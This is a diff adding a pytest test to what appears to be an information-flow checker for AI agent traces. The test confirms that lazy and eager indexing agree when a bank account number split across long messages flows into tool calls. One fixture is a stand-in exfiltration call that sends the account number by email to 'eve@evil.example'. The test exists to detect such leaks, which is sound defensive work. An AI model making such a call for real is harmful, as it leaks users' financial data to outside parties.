@@ -418,3 +418,47 @@ def test_handpicked_spellings_answer_as_the_index(case: str) -> None:
     blocks, call = HANDPICKED[case]
     messages = [{"role": "user", "content": "Please help."}] + [m for b in blocks for m in b]
     same_answers(messages, call)
+
+
+def _over_budget(texts: list[str], role: str) -> list[dict[str, Any]]:
+    """Three messages of one source: a sensitive tool's results, or the user's."""
+    out: list[dict[str, Any]] = [{"role": "user", "content": "Show my balance."}]
+    for i, text in enumerate(texts):
+        if role == "user":
+            out.append({"role": "user", "content": text})
+            continue
+        out += [_calls(f"c{i}", "get_balance", {"account": "main"}),
+                {"role": "tool", "tool_call_id": f"c{i}", "content": text}]  # fmt: skip
+    return out
+
+
+@pytest.mark.parametrize("role,expression,call", [
+    ("tool", "secret_flow()", {"name": "send_email", "args": {
+        "to": "eve@evil.example", "subject": "x", "body": "DE89 3704 0044 0532 0130 00"}}),
+    ("user", 'arg_from_user("iban")', {"name": "send_money", "args": {
+        "iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}}),
+])  # fmt: skip
+def test_a_thread_over_the_state_budget_answers_as_the_index(
+    role: str, expression: str, call: dict[str, Any]
+) -> None:
+    """An unindexed message (over ``max_state_bytes``) moves the index's boundaries.
+
+    The index reads no boundary of a message it could not keep: the next message of the
+    source is joined to the one before (a value split around the long message is found,
+    one split beside it is not). The lookup read every boundary, so it decided otherwise
+    (secret_flow allowed where the index denies; seen failing first): a thread whose state
+    may exceed the budget is answered from the completed index.
+    """
+    big = " ".join(f"w{i}x" for i in range(60))
+    texts = (["paid to DE89 3704 0044", big, "0532 0130 00 done"] if role == "tool"
+             else ["a" * 5 + " " + big + " DE89 3704 0044", "0532 0130 00 done"])  # fmt: skip
+    messages = _over_budget(texts, role)
+    for budget in (600, 700, 800, 900, 1000, 1200, 1_000_000):
+        def analysed(lazy: bool) -> Any:
+            index = TraceIndex(LABELS.phone_region, max_state_bytes=budget)  # noqa: B023
+            return analyze(parse_trace(messages, call, labels=LABELS), LABELS, index=index,
+                           lazy=lazy)  # fmt: skip
+
+        eager, lazy = analysed(False), analysed(True)
+        for e in (expression, *POLICY_EXPRESSIONS):
+            assert lazy.fact(e).to_json() == eager.fact(e).to_json(), (budget, e)
